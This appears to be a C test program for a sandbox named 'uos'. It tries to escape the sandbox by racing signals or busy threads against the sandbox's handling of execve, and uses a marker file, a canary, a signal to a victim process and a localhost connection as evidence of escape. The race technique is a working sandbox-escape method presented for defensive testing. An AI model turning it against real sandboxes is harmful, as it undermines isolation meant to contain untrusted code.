/*
 * exec_stop_race timer|tgkill|busy MARKER CANARY VICTIM PORT MAX [N]: spoof the
 * stops uos sees while a thread execs.
 *
 * Attack: between a guest's execve and the host's exec of uos's stub, uos
 * marks the task as "in exec" and lets every system call stop of that task
 * through to the host (they are meant to be uos's own calls).  Anything
 * else that makes the task stop in that window runs unexamined:
 *   timer: a POSIX timer of the host (timer_create with SIGEV_THREAD_ID
 *     aimed at the exec'ing thread, every 100 us) signals it while uos
 *     prepares the exec; the signal's handler then makes system calls.
 *   tgkill: a sibling thread tgkills the exec'ing thread in a loop (signals
 *     that uos sends).
 *   busy: no signals, but sibling threads that make system calls in a loop,
 *     fork and reap children, and map files (calls uos injects), while the
 *     exec comes from the main thread or (every other time) from a sibling
 *     thread.
 * This program execs itself MAX times (N so far); each image arms the
 * handler just before its execve.
 *
 * The handler is the attacker: it tries to create MARKER and asks getpid;
 * when the host answered (not the guest's virtual pid), it copies the host
 * CANARY into MARKER, signals the host process VICTIM, connects to
 * 127.0.0.1:PORT and exits with 99.  Under uos's checks those calls fail
 * harmlessly (ENOENT, ESRCH).
 *
 * Escape: MARKER exists on the host, VICTIM got a signal, the listener got
 * a connection, uos exits with 99 (checked by exec_stop_race.sh).
 */
#include "sec.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <sys/socket.h>
#include <sys/wait.h>

extern char **environ;
static const char *marker, *canary;
static long victim, vpid;
static int port;
static volatile int armed;
static volatile pid_t exec_tid;
static char **exec_argv;

static _Noreturn void escaped(void)
{
	sec_escaped(marker, canary, victim, port);
}

static void on_urg(int sig)
{
	(void)sig;
	if (!armed)
		return;
	long r = rsys4(SYS_openat, AT_FDCWD, marker, O_CREAT | O_WRONLY | O_TRUNC, 0644);
	if (rsys0(SYS_getpid) != vpid)
		escaped();
	if (r >= 0)
		rsys1(SYS_close, r);
}

/* A host timer signalling thread tid with SIGURG every 100 us. */
static int start_timer(pid_t tid)
{
	timer_t id;
	struct sigevent ev = {.sigev_notify = SIGEV_THREAD_ID, .sigev_signo = SIGURG};
	ev._sigev_un._tid = tid;
	struct itimerspec its = {{0, 100000}, {0, 100000}};
	if (timer_create(CLOCK_MONOTONIC, &ev, &id) < 0 || timer_settime(id, 0, &its, NULL) < 0) {
		perror("exec_stop_race: timer");
		return -1;
	}
	return 0;
}

static void do_exec(void)
{
	armed = 1;
	execve(exec_argv[0], exec_argv, environ);
	armed = 0;
	say("exec: execve failed: %s\n", strerrorname_np(errno));
}

static void *syscaller(void *arg)
{
	(void)arg;
	for (;;)
		getppid();
	return NULL;
}

static void *signaller(void *arg)
{
	(void)arg;
	for (;;)
		if (exec_tid)
			syscall(SYS_tgkill, vpid, exec_tid, SIGURG);
	return NULL;
}

static void *exec_thread(void *arg)
{
	(void)arg;
	exec_tid = gettid();
	do_exec();
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc != 7 && argc != 8) {
		fprintf(stderr, "usage: exec_stop_race timer|tgkill|busy MARKER CANARY VICTIM PORT MAX [N]\n");
		return 2;
	}
	bool timer = strcmp(argv[1], "timer") == 0, busy = strcmp(argv[1], "busy") == 0;
	marker = argv[2];
	canary = argv[3];
	victim = atol(argv[4]);
	port = atoi(argv[5]);
	long max = atol(argv[6]), n = argc == 8 ? atol(argv[7]) : 0;
	vpid = getpid();
	if (n >= max) {
		say("exec_stop_race %s: %ld execs\n", argv[1], n);
		return 0;
	}
	char nbuf[32];
	snprintf(nbuf, sizeof(nbuf), "%ld", n + 1);
	char *nargv[] = {argv[0], argv[1], argv[2], argv[3], argv[4], argv[5], argv[6], nbuf, NULL};
	exec_argv = nargv;
	struct sigaction sa = {.sa_handler = on_urg};
	sigaction(SIGURG, &sa, NULL);
	pthread_t th;
	if (!timer && !busy && pthread_create(&th, NULL, signaller, NULL))
		return 2;
	if (busy) {
		void *(*fn[])(void *) = {syscaller, sec_forker, sec_mapper};
		for (size_t i = 0; i < sizeof(fn) / sizeof(fn[0]); i++)
			if (pthread_create(&th, NULL, fn[i], NULL))
				return 2;
	}
	if (busy && n % 2) {
		if (pthread_create(&th, NULL, exec_thread, NULL))
			return 2;
		for (;;)
			getppid();
	}
	exec_tid = gettid();
	if (timer && start_timer(exec_tid) < 0)
		return 2;
	for (int i = 0; i < 100; i++)
		do_exec();
	return 1;
}
